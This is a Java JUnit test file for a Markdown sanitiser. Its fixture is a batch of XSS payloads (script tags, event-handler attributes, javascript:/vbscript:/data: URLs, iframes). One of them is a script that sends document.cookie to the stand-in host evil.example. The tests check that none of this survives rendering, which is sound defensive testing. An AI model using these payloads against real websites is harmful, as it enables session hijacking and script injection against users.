package ru.navyk.infrastructure.content;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/** A hostile article must render harmless: no script, event handler or dangerous URL survives. */
class MarkdownSanitisingTest {

    private static final String HOSTILE = """
            # Тарифы <script>alert('заголовок')</script>

            Обычный **жирный** текст и [ссылка](https://navyk.example/tariffs).

            <script>document.location='https://evil.example/?c='+document.cookie</script>
            <img src="x" onerror="alert(1)">
            <a href="javascript:alert(2)">нажми</a>
            <div onclick="alert(3)" style="background:url(javascript:alert(4))">блок</div>
            <iframe src="https://evil.example"></iframe>
            <svg onload="alert(5)"></svg>

            [Ссылка-ловушка](javascript:alert(6)) и [ещё одна](JaVaScRiPt:alert(7)) и [данные](data:text/html;base64,PHNjcmlwdD4=)
            и [vbscript](vbscript:msgbox(8)).

            ![картинка](javascript:alert(9))

            <a href="https://ok.example" onmouseover="alert(10)">наведи</a>

            | Тариф | Цена |
            |---|---|
            | Навык Дом 100 | 600 ₽ <b onmouseover="alert(11)">x</b> |
            """;

    @Test
    void hostileMarkdownRendersHarmless() {
        String html = MarkdownRenderer.toSafeHtml(HOSTILE);

        // What the browser would parse as markup: every real tag ("<" is written "&lt;" where text shows one).
        List<String> tags = new ArrayList<>();
        Matcher tag = Pattern.compile("<[^>]*>").matcher(html);
        while (tag.find()) {
            tags.add(tag.group().toLowerCase(Locale.ROOT));
        }
        assertFalse(tags.isEmpty(), html);
        for (String t : tags) {
            assertFalse(t.matches("</?(script|iframe|svg|object|embed|style|div)\\b.*"), "a dangerous element: " + t);
            assertFalse(t.matches(".*\\son[a-z]+\\s*=.*"), "an event attribute: " + t);
            assertFalse(t.contains("javascript:") || t.contains("vbscript:") || t.contains("data:"),
                    "a dangerous URL: " + t);
            assertFalse(t.contains("style="), "a style attribute: " + t);
        }
        // The hostile text stays readable as text.
        assertTrue(html.contains("&lt;script&gt;"), html);
    }

    @Test
    void ordinaryMarkdownKeepsItsFormatting() {
        String html = MarkdownRenderer.toSafeHtml(HOSTILE);

        assertTrue(html.contains("<h1>"), html);
        assertTrue(html.contains("<strong>жирный</strong>"), html);
        assertTrue(html.contains("href=\"https://navyk.example/tariffs\""), html);
        assertTrue(html.contains("<table>"), html);
        assertTrue(html.contains("<td>Навык Дом 100</td>"), html);
    }

    @Test
    void rawHtmlIsShownAsTextNotRun() {
        String html = MarkdownRenderer.toSafeHtml("Текст <b>не жирный</b>");

        assertFalse(html.contains("<b>"), html);
        assertTrue(html.contains("&lt;b&gt;"), html);
    }

    @Test
    void sanitiserStripsDangerousHtmlEvenIfTheRendererLetItThrough() {
        String html = MarkdownRenderer.sanitize("<p onclick=\"x()\">a<script>b()</script>"
                + "<a href=\"javascript:c()\">d</a><a href=\"https://e.example\">e</a></p>");

        assertFalse(html.contains("onclick"), html);
        assertFalse(html.contains("script"), html);
        assertFalse(html.contains("javascript"), html);
        assertTrue(html.contains("https://e.example"), html);
    }
}
